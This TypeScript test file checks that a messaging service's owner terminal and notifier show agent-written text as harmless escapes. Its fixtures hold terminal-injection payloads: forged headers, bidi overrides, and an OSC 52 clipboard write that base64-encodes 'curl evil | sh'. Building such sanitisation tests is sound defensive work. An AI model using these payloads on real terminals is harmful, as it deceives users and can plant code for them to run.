// What an agent writes reaches the owner's terminal through the owner script and the notifier:
// shown, never obeyed. Escape sequences that the API refuses today are written straight into the
// database, as an older version (or a restored backup) may hold them.

import assert from 'node:assert/strict';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { test } from 'node:test';
import { shown, shownBody, shownShort, verifiedLabel } from '../../src/base/terminal.ts';
import { newKey, openConversation, request, ROOT, runOwner, startTestService, tempDir, waitUntil } from '../helpers.ts';
import { startWatch } from '../owner-run.ts';

const ESC = '\x1b';
// Conceal, then right-to-left override, then an OSC title: an agent name that hides its own label.
const HOSTILE_NAME = `evil${ESC}[8m\u202e${ESC}]0;pwned\x07`;
// What the API accepts: a carriage return that would draw over the line, a forged reply and a forged end.
const FORGED_REPLY = '#2  you (owner)  2026-11-24 10:00:00 UTC';
const ACCEPTED_MESSAGE = `fine\r${FORGED_REPLY}\nStopped watching.\n\u202eexe.txt`;
// What only the database can hold: cursor up, erase line, OSC 52 into the clipboard, a C1 CSI, NUL, DEL.
const STORED_MESSAGE = `${ESC}[1A${ESC}[2K${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b31m\x00\x7f`;

/** Nothing a terminal acts on: no control, format or separator character but the line feeds. */
function assertInert(output: string, what: string): void {
  const unsafe = output.replace(/\n/g, '').match(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  assert.equal(unsafe, null, `${what} printed U+${unsafe?.[0].codePointAt(0)?.toString(16)} raw`);
}

/** A message and metadata as an older version could have stored them, bypassing today's refusals. */
function storeAsOlderVersion(dbPath: string, id: string, message: string, metadata: Record<string, string>): void {
  const db = new DatabaseSync(dbPath);
  try {
    const { last_seq } = db.prepare('SELECT last_seq FROM conversations WHERE id = ?').get(id) as { last_seq: number };
    db.prepare('INSERT INTO messages (conversation_id, seq, author, message, created_at) VALUES (?, ?, ?, ?, ?)').run(
      id,
      last_seq + 1,
      'client',
      message,
      new Date().toISOString(),
    );
    db.prepare("UPDATE conversations SET last_seq = ?, status = 'open', metadata = ? WHERE id = ?").run(
      last_seq + 1,
      JSON.stringify(metadata),
      id,
    );
  } finally {
    db.close();
  }
}

test('shown() makes control, format and separator characters visible and keeps the rest', () => {
  assert.equal(shown(`a${ESC}[2Kb`), 'a\\x1b[2Kb');
  assert.equal(shown('\u009b\x00\x7f\t\r\n'), '\\x9b\\x00\\x7f\\x09\\x0d\\x0a');
  assert.equal(shown('\u202e\u200b\u2028\u{e0041}'), '\\u202e\\u200b\\u2028\\u{e0041}');
  assert.equal(shown('café 日本 🙂 "quoted" \\ back'), 'café 日本 🙂 "quoted" \\ back');
  assert.equal(shownBody('one\r\ntwo'), '    | one\\x0d\n    | two');
});

test('inbox and show print what an agent wrote as escapes, each message line behind its prefix', async (t) => {
  const service = await startTestService(t);
  const conversation = await openConversation(service.url, {
    message: ACCEPTED_MESSAGE,
    metadata: { agent_name: 'placeholder' },
  });
  const metadata = { agent_name: HOSTILE_NAME, model: 'm1\n  status      closed' };
  storeAsOlderVersion(service.dbPath, conversation.id, STORED_MESSAGE, metadata);

  const inbox = await runOwner(service.dbPath, ['inbox']);
  assert.equal(inbox.code, 0, inbox.stderr);
  assertInert(inbox.stdout, 'inbox');
  assert.match(inbox.stdout, /evil\\x1b\[8m\\u202e\\x1b\]0;pwned\\x07 \(unverified\)/);
  assert.equal(inbox.stdout.trim().split('\n').length, 1, 'one line per conversation, whatever the text');

  const show = await runOwner(service.dbPath, ['show', conversation.id]);
  assert.equal(show.code, 0, show.stderr);
  assertInert(show.stdout, 'show');
  const lines = show.stdout.split('\n');
  assert.deepEqual(
    lines.filter((line) => /^#\d/.test(line)).map((line) => line.split('  ')[0]),
    ['#1', '#2'],
    'only the real message headers start a line',
  );
  assert.equal(lines.filter((line) => /^ {2}status /.test(line)).length, 1, 'no forged status line');
  assert.match(show.stdout, /^ {2}model {7}m1\\x0a {2}status {6}closed \(unverified\)$/m);
  assert.match(show.stdout, /^ {4}\| fine\\x0d#2 {2}you \(owner\)/m);
  assert.match(show.stdout, /^ {4}\| Stopped watching\.$/m);
  assert.match(show.stdout, /^ {4}\| \\x1b\[1A\\x1b\[2K\\x1b\]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m\\x00\\x7f$/m);

  const exact = JSON.parse((await runOwner(service.dbPath, ['show', conversation.id, '--json'])).stdout);
  assert.equal(exact.messages[1].message, STORED_MESSAGE, '--json stays the exact channel');
});

test('watch prints a hostile message as escapes and cannot be made to seem stopped', async (t) => {
  const service = await startTestService(t);
  const watch = startWatch(t, service.dbPath);
  await watch.waitFor(/Watching for new client messages/);
  const conversation = await openConversation(service.url, { message: ACCEPTED_MESSAGE });
  await watch.waitFor(/\\u202eexe\.txt/);
  storeAsOlderVersion(service.dbPath, conversation.id, STORED_MESSAGE, { agent_name: HOSTILE_NAME });
  await watch.waitFor(/\\x00\\x7f/);
  await watch.interrupt();
  const output = watch.output();
  assertInert(output, 'watch');
  assert.deepEqual(output.match(/^Stopped watching\.$/gm), ['Stopped watching.'], 'only the real end, last');
  assert.match(output, /Stopped watching\.\n$/);
  assert.match(output, /#2 {2}evil\\x1b\[8m\\u202e\\x1b\]0;pwned\\x07 \(unverified\)/);
});

test('errors of the owner script show what the owner or a file gave, never obey it', async (t) => {
  const service = await startTestService(t);
  const show = await runOwner(service.dbPath, ['show', `${ESC}]52;c;eA==\x07`]);
  assert.equal(show.code, 1);
  assertInert(show.stderr, 'an error');
  assert.match(show.stderr, /\\x1b\]52;c;eA==\\x07/);
  const file = path.join(tempDir(t), 'listings.json');
  writeFileSync(file, JSON.stringify([{ slug: `bad${ESC}[2J`, name: `x${ESC}[31m` }]));
  const imported = await runOwner(service.dbPath, ['listings', 'import', file]);
  assert.equal(imported.code, 1);
  assertInert(imported.stderr, 'an import error');
  assert.match(imported.stderr, /nothing was imported/);
});

test('the notifier gets no control character in its environment, and the example file cannot be forged', async (t) => {
  const notifyFile = path.join(tempDir(t), 'messages.txt');
  process.env.NOTIFY_FILE = notifyFile; // the notifier inherits the server's environment
  t.after(() => delete process.env.NOTIFY_FILE);
  const service = await startTestService(t, { env: { NOTIFY_COMMAND: path.join(ROOT, 'docs/notify-example.sh') } });
  const other = await openConversation(service.url, { message: 'an honest question' });
  const conversation = await openConversation(service.url, { message: 'first' });
  // A NUL cannot go into a child's environment: stored by an older version, it used to fail every notification.
  storeAsOlderVersion(service.dbPath, conversation.id, 'stored', { agent_name: `nul\x00${ESC}[2J` });
  const forged = `ok\r2026-01-01T00:00:00Z  conversation ${other.id}  #9  from boss (unverified)\n${ESC}[31mred`;
  const followUp = await request(service.url, 'POST', `/api/v1/conversations/${conversation.id}/messages`, {
    token: conversation.token,
    key: newKey(),
    json: { message: forged },
  });
  assert.equal(followUp.status, 400, 'the API refuses ESC in a message');
  // Bidi, separators, and what a person cannot see but a model reads: tag characters, a soft hyphen, …
  const invisible = '\u061c\u00ad\u180e\u206a\u206f\ufff9\ufffb\u{e0001}\u{e0041}\u{e007f}\u{e0002}\u3164';
  const accepted = forged.replace(`\n${ESC}[31mred`, `\n\u202ered\u2028fake\u2066!${invisible}`);
  const sent = await request(service.url, 'POST', `/api/v1/conversations/${conversation.id}/messages`, {
    token: conversation.token,
    key: newKey(),
    json: { message: accepted },
  });
  assert.equal(sent.status, 201);
  const entries = () => (existsSync(notifyFile) ? readFileSync(notifyFile, 'utf8') : '');
  // The entry is whole once the blank line that closes it is written.
  await waitUntil(() => /#3 {2}from nul[^]*\n\n$/.test(entries()), 'the notification of the follow-up was written');
  const text = entries();
  assert.match(text, new RegExp(`conversation ${conversation.id}  #3  from nul\\\\x00\\\\x1b\\[2J \\(unverified\\)`));
  const headers = text.split('\n').filter((line) => /^\d{4}-/.test(line));
  assert.equal(headers.length, 3, `one header per notification, none forged:\n${text}`);
  assert.match(text, /^ {4}\| ok\\x0d2026-01-01T00:00:00Z {2}conversation /m);
  assert.ok(!/[\x00-\x08\x0b-\x1f\x7f]/.test(text), 'no control byte reaches the file');
  assert.ok(!/[\p{Cf}\p{Cn}\u2028\u3164]/u.test(text), 'no format, unassigned or invisible character either');
  const shownInvisible =
    '\\u061c\\xad\\u180e\\u206a\\u206f\\ufff9\\ufffb\\u{e0001}\\u{e0041}\\u{e007f}\\u{e0002}\\u3164';
  assert.ok(text.includes(`    | \\u202ered\\u2028fake\\u2066!${shownInvisible}\n`), 'each shown as an escape');
  assert.equal(statSync(notifyFile).mode & 0o777, 0o600, 'the file is private to the service user');
  assert.ok(!service.logs.some((entry) => entry.notify === 'failed'), 'every notification ran');
});

test('a shortened line is cut between characters, never inside one or inside an escape', () => {
  const cut = shownShort('😀'.repeat(100), 10);
  assert.equal(cut, `${'😀'.repeat(9)}…`);
  assert.ok(cut.isWellFormed(), 'no half of a surrogate pair');
  assert.equal(shownShort(`${'a'.repeat(8)}\u202e${'b'.repeat(8)}`, 10), `${'a'.repeat(8)}\\u202e…`);
});

test("a verified identity is shown whole, spelled as everywhere: its host's end is the domain that proved it", () => {
  const decoy = `https://openai.com.${'a'.repeat(120)}.evil.example`;
  assert.equal(verifiedLabel(decoy), `verified: ${decoy}`);
  assert.equal(verifiedLabel('https://agent.example'), 'verified: https://agent.example');
  assert.equal(verifiedLabel('https://agent.example', true), 'contact: https://agent.example');
  assert.equal(verifiedLabel('https://agent.example:8443/keys.json'), 'verified: https://agent.example:8443/keys.json');
  assert.equal(verifiedLabel('https://agent.example/\u202ekeys'), 'verified: https://agent.example/\\u202ekeys');
});
